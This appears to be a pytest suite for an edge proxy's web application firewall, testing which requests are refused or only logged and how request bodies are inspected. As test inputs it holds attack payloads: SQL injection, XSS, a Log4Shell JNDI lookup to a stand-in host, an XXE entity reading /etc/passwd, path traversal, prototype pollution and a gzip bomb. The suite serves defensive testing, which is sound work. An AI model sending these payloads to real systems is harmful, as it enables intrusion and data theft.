"""The WAF over a whole edge: what is refused, what is only logged, and what becomes of bodies meanwhile."""

import asyncio
import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from urllib.request import urlopen

import pytest

from tests.support.cli import edgecluster
from tests.support.client import Answer
from tests.support.cluster import wait_until
from tests.support.configured_edge import ConfiguredEdge, configured_edge
from tests.support.exchanges import Arriving
from tests.support.scripted_origin import ScriptedOrigin, answer
from tests.support.versions import connect

RULES = """
SecRule ARGS "@contains forbidden" "id:1001,phase:2,pass,msg:'A word',tag:'words',setvar:tx.anomaly_score=+5"
SecRule REQUEST_HEADERS:X-Never "@rx ." "id:1002,phase:1,log,deny,msg:'Never'"
"""
CONFIG = """
log: {{path: access.log}}
admin: http://127.0.0.1:0
waf: block
sites:
  - origin: {url}
    routes:
      - {{prefix: /log, waf: log}}
      - {{prefix: /off, waf: off}}
      - {{prefix: /wiki, waf: {{exclude: [{{rule: xss, variable: ARGS:text}}, lookup]}}}}
      - {{prefix: /high, waf: {{threshold: 10}}}}
      - {{prefix: /small, waf: {{body_limit: 4KiB}}}}
      - {{prefix: /strict, waf: {{body_limit: 4KiB, over_limit: refuse}}}}
      - {{prefix: /impatient, waf: {{body_wait: 100ms}}}}
      - {{prefix: /hasty, waf: {{body_wait: 100ms, over_limit: refuse}}}}
      - {{prefix: /headsonly, waf: {{body_limit: 0}}}}
      - prefix: /rules
        waf: {{rules: rules.conf}}
      - prefix: /fewer
        waf: {{rules: rules.conf, exclude: [words, {{rule: 1002, variable: "REQUEST_HEADERS:X-Never"}}]}}
      - prefix: /
"""
SCRIPT = "<script>alert(1)</script>"
SQL = "1' or 1=1--"
FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=b"


@pytest.fixture(scope="module")
def origin() -> Iterator[ScriptedOrigin]:
    fresh = "Cache-Control: max-age=60"
    with ScriptedOrigin(lambda request: answer(b"%d" % request.body_bytes, headers=fresh)) as running:
        yield running


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory, origin: ScriptedOrigin) -> Iterator[ConfiguredEdge]:
    directory = tmp_path_factory.mktemp("waf")
    (directory / "rules.conf").write_text(RULES)
    with configured_edge(directory, CONFIG.format(url=origin.url)) as edge:
        yield edge


@pytest.fixture
def edge(running: ConfiguredEdge, over: str) -> ConfiguredEdge:
    return running.by(over)


def send(
    edge: ConfiguredEdge, path: str, body: bytes, content_type: str = FORM, *fields: tuple[str, str]
) -> Arriving:
    """A request with a body, in pieces."""

    async def main() -> Arriving:
        async with connect(edge.over, edge.ends) as client:
            lines = [("content-type", content_type), *fields]
            stream = client.begin(path, lines, method="POST", end=False)
            pieces = [body[at : at + 1000] for at in range(0, len(body), 1000)]
            sending = asyncio.create_task(client.upload(stream, pieces))
            came = await client.answer(stream)
            sending.cancel()  # who is refused early is not read to the end
            await asyncio.gather(sending, return_exceptions=True)
            return came

    return asyncio.run(main())


def logged(edge: ConfiguredEdge, request: Answer | Arriving) -> dict[str, Any]:
    """The access log's line of a request."""
    name = request.fields["x-request-id"]
    file = edge.directory / "access.log"

    def find() -> dict[str, Any] | None:
        lines = [json.loads(line) for line in file.read_text().splitlines() if name in line]
        return lines[0] if lines else None

    found: dict[str, Any] = wait_until(find)
    return found


def parts(*, name: str = "a", value: str = "1", filename: str = "") -> bytes:
    file = f'; filename="{filename}"' if filename else ""
    return (
        f'--b\r\nContent-Disposition: form-data; name="{name}"{file}\r\n\r\n{value}\r\n--b--\r\n'
    ).encode()


# Heads


def test_an_attack_is_refused_before_the_cache_and_the_log_says_why(
    edge: ConfiguredEdge, origin: ScriptedOrigin
) -> None:
    path = f"/page-{edge.over}"
    assert edge.ask(path).status == 200
    attack = edge.ask(f"{path}?id={quote(SQL)}")
    assert attack.status == 403
    assert not [request for request in origin.requests if request.target.startswith(f"{path}?")]
    line = logged(edge, attack)
    assert line["block"] == line["waf"].replace("refused", "waf") == "waf"
    assert (line["waf_score"], line["waf_rules"], line["cache"]) == (5, "sqli", "none")
    hit = edge.ask(path)
    assert (hit.status, "waf" in logged(edge, hit)) == (200, False)


@pytest.mark.parametrize(
    "field", ["User-Agent: ${jndi:ldap://192.0.2.9/a}", f"Cookie: a=1; b={quote(SCRIPT)}"]
)
def test_attacks_in_fields_are_refused(edge: ConfiguredEdge, field: str) -> None:
    assert edge.ask("/page", field).status == 403


def test_in_mode_log_they_pass_and_are_written_down_even_on_hits(edge: ConfiguredEdge) -> None:
    target = f"/log?q={quote(SCRIPT)}&over={quote(edge.over)}"
    for _ in range(2):
        came = edge.ask(target)
        line = logged(edge, came)
        assert (came.status, line["waf"], line["waf_rules"]) == (200, "would-refuse", "xss")
    assert line["cache"] == "hit"


def test_a_route_may_leave_out_the_waf_or_parts_of_it(edge: ConfiguredEdge) -> None:
    assert edge.ask(f"/off?q={quote(SCRIPT)}").status == 200
    assert edge.ask(f"/wiki?text={quote(SCRIPT)}").status == 200
    assert edge.ask(f"/wiki?title={quote(SCRIPT)}").status == 403
    assert edge.ask(f"/wiki?text={quote('${jndi:ldap://192.0.2.9/a}')}").status == 200
    below = edge.ask(f"/high?q={quote(SCRIPT)}")
    assert (below.status, logged(edge, below)["waf"]) == (200, "matched")
    assert edge.ask(f"/high?q={quote(SCRIPT)}&id={quote(SQL)}").status == 403


def test_rules_of_files_decide_beside_the_detectors(edge: ConfiguredEdge) -> None:
    assert edge.ask("/rules?q=fine").status == 200
    assert edge.ask("/rules?q=forbidden").status == 403
    assert edge.ask("/rules", "X-Never: 1").status == 403
    assert edge.ask("/fewer?q=forbidden").status == 200
    assert edge.ask("/fewer", "X-Never: 1").status == 200
    assert edge.ask(f"/fewer?q={quote(SCRIPT)}").status == 403
    assert send(edge, "/rules", b"q=forbidden").status == 403
    assert send(edge, "/rules", b'{"q": "forbidden"}', "application/json").status == 403


def test_long_heads_are_judged_as_short_ones_are(edge: ConfiguredEdge) -> None:
    many = "&".join(f"a{number}=1" for number in range(100))
    assert edge.ask(f"/page?{many}").status == 200
    assert edge.ask(f"/page?{many}&id={quote(SQL)}").status == 403
    assert edge.ask(f"/page?{many}&{many}&{many}").status == 403
    logs = edge.ask(f"/log?{many}&id={quote(SQL)}")
    assert (logs.status, logged(edge, logs)["waf"]) == (200, "would-refuse")
    cookies = "; ".join(f"c{number}=1" for number in range(100))
    assert edge.ask("/page", f"Cookie: {cookies}").status == 200
    assert edge.ask("/page", f"Cookie: {cookies}; {cookies}; {cookies}").status == 403
    assert edge.ask("/rules?q=forbidden&" + many).status == 403


# Bodies

ATTACKS = {
    "form": (FORM, f"a=1&id={quote(SQL)}".encode()),
    "long form": (FORM, b"a=" + b"x" * 50_000 + f"&id={quote(SQL)}".encode()),
    "json": ("application/json", json.dumps({"user": {"id": SQL}}).encode()),
    "name in json": ("application/vnd.api+json", b'{"user": {"$where": "1"}}'),
    "prototype": ("application/json", b'{"constructor": {"prototype": {"admin": true}}}'),
    "json by a script": ("text/plain;charset=UTF-8", json.dumps([{"id": SQL}]).encode()),
    "json lines": ("application/x-ndjson", b'{"a": 1}\n' + json.dumps({"id": SQL}).encode()),
    "broken json": ("application/json", b'{"a": 1'),
    "deep json": ("application/json", b"[" * 2000 + b"]" * 2000),
    "multipart": (MULTIPART, parts(value=SQL)),
    "file name": (MULTIPART, parts(filename="../../etc/passwd")),
    "no last boundary": (MULTIPART, parts()[:-6]),
    "many parts": (MULTIPART, parts()[:-7] * 300 + b"--b--\r\n"),
    "many arguments": (FORM, b"&".join(b"a%d=1" % number for number in range(1001))),
    "xml": ("application/xml", f"<a><b>{SQL}</b></a>".encode()),
    "entity": ("text/xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    "text": ("text/plain", SCRIPT.encode()),
    "no type": ("", SCRIPT.encode()),
    "odd charset": (f"{FORM}; charset=ibm037", b"a=1"),
}
HARMLESS = {
    "form": (FORM, b"name=O%27Brien&text=Tom+%26+Jerry"),
    "json": ("application/json", json.dumps({"list": list(range(5000)), "name": "O'Brien"}).encode()),
    "multipart": (MULTIPART, parts(value="Tom & Jerry", filename="Bob's holiday.jpg")),
    "xml": ("application/xml", b"<a b='c'>text</a>"),
    "picture": ("image/png", SCRIPT.encode()),
    "empty": (FORM, b""),
}


@pytest.mark.parametrize("kind", ATTACKS)
def test_attacks_in_bodies_are_refused_and_reach_no_origin(
    edge: ConfiguredEdge, origin: ScriptedOrigin, kind: str
) -> None:
    content_type, body = ATTACKS[kind]
    asked = len(origin.requests)
    came = send(edge, "/body", body, content_type)
    assert came.status == 403
    assert len(origin.requests) == asked
    line = logged(edge, came)
    assert (line["block"], line["cache"], "forward" in line) == ("waf", "none", False)


@pytest.mark.parametrize("kind", HARMLESS)
def test_harmless_bodies_go_on_unchanged(edge: ConfiguredEdge, origin: ScriptedOrigin, kind: str) -> None:
    content_type, body = HARMLESS[kind]
    came = send(edge, "/body", body, content_type)
    assert (came.status, origin.requests[-1].body) == (200, body)
    assert "waf" not in logged(edge, came)


def test_codings_are_undone_to_look_and_bombs_are_refused(
    edge: ConfiguredEdge, origin: ScriptedOrigin
) -> None:
    gzipped = ("content-encoding", "gzip")
    assert send(edge, "/body", gzip.compress(f"id={quote(SQL)}".encode()), FORM, gzipped).status == 403
    assert send(edge, "/body", b"a=1", FORM, gzipped).status == 403
    bomb = send(edge, "/body", gzip.compress(b"a" * 50_000_000), FORM, gzipped)
    assert logged(edge, bomb)["waf_rules"] == "excess"
    packed = gzip.compress(b"name=value")
    assert send(edge, "/body", packed, FORM, gzipped).status == 200
    assert origin.requests[-1].body == packed


def test_of_a_long_body_the_beginning_is_judged_and_the_rest_passes(
    edge: ConfiguredEdge, origin: ScriptedOrigin
) -> None:
    long = parts(value="x" * 300_000, filename="film.mp4")
    assert send(edge, "/small", long, MULTIPART).status == 200
    assert origin.requests[-1].body == long
    begins = parts(name="id", value=SQL)[:-7] + long
    assert send(edge, "/small", begins, MULTIPART).status == 403
    assert send(edge, "/small", json.dumps([SQL, "x" * 10_000]).encode(), "application/json").status == 403
    assert send(edge, "/headsonly", f"id={quote(SQL)}".encode()).status == 200


def test_where_the_rest_may_not_pass_longer_bodies_are_refused(edge: ConfiguredEdge) -> None:
    assert send(edge, "/strict", b"a=" + b"x" * 4000).status == 200
    assert send(edge, "/strict", b"a=" + b"x" * 5000).status == 413
    announced = ("content-length", "5002")
    assert send(edge, "/strict", b"a=" + b"x" * 5000, FORM, announced).status == 413


def test_nothing_is_forwarded_before_a_body_is_judged(edge: ConfiguredEdge, origin: ScriptedOrigin) -> None:
    path = f"/held-{edge.over}"

    async def main() -> None:
        async with connect(edge.over, edge.ends) as client:
            held = client.begin(path, [("content-type", FORM)], method="POST", end=False)
            other = client.begin("/other", method="GET")
            assert (await client.answer(other)).status == 200
            assert not [request for request in origin.requests if request.target == path]
            await client.upload(held, [b"a=1"])
            assert (await client.answer(held)).status == 200

    asyncio.run(main())
    assert [request.body for request in origin.requests if request.target == path] == [b"a=1"]


def test_who_takes_too_long_is_waited_for_no_longer(edge: ConfiguredEdge) -> None:
    async def main(path: str) -> int:
        async with connect(edge.over, edge.ends) as client:
            stream = client.begin(path, [("content-type", FORM)], method="POST", end=False)
            came = await client.head(stream) if path == "/hasty" else None
            if came is None:
                await asyncio.sleep(0.3)  # it is let through meanwhile, or else afterwards
                await client.upload(stream, [b"a=1"])
                came = await client.answer(stream)
            return came.status

    assert asyncio.run(main("/hasty")) == 408
    assert asyncio.run(main("/impatient")) == 200


# What tells of it


def test_metrics_count_by_rule_over_all_workers(running: ConfiguredEdge) -> None:
    def counts() -> dict[str, int]:
        with urlopen(running.cluster.admin_url + "/metrics") as page:
            lines = page.read().decode().splitlines()
        pairs = (line.rpartition(" ") for line in lines if line.startswith("edgecluster_waf"))
        return {name.removeprefix("edgecluster_waf_"): int(value) for name, _, value in pairs}

    before = counts()
    for _ in range(6):  # either worker may get them
        assert running.ask(f"/page?id={quote(SQL)}").status == 403
    assert running.ask(f"/high?id={quote(SQL)}").status == 200
    after = counts()
    grown = {name: count - before.get(name, 0) for name, count in after.items()}
    assert {name: count for name, count in grown.items() if count} == {
        "matched_requests_total": 7,
        "refusable_requests_total": 6,
        'rule_matches_total{rule="sqli"}': 7,
    }


def test_status_says_what_the_waf_does_and_finds(running: ConfiguredEdge) -> None:
    assert running.ask(f"/page?id={quote(SQL)}").status == 403
    said = edgecluster("status", state_dir=running.cluster.settings.state_dir)
    assert said["cluster"]["waf"].startswith("waf partly blocks, partly only logs")
    assert said["waf_rules"]["sqli"] > 0


def test_bad_rules_fail_the_reload_with_file_and_line(running: ConfiguredEdge, tmp_path: Path) -> None:
    bad = tmp_path / "bad.conf"
    bad.write_text("# fine\nSecRule ARGS @nonsense id:1\n")
    text = f"waf: {{rules: {bad}}}\nsites: [{{origin: http://127.0.0.1:9}}]\n"
    answer = running.reload(text)
    assert answer["ok"] is False
    assert f"cannot use the WAF's rules: {bad}:2: " in answer["error"]
    assert running.ask(f"/page?id={quote(SQL)}").status == 403
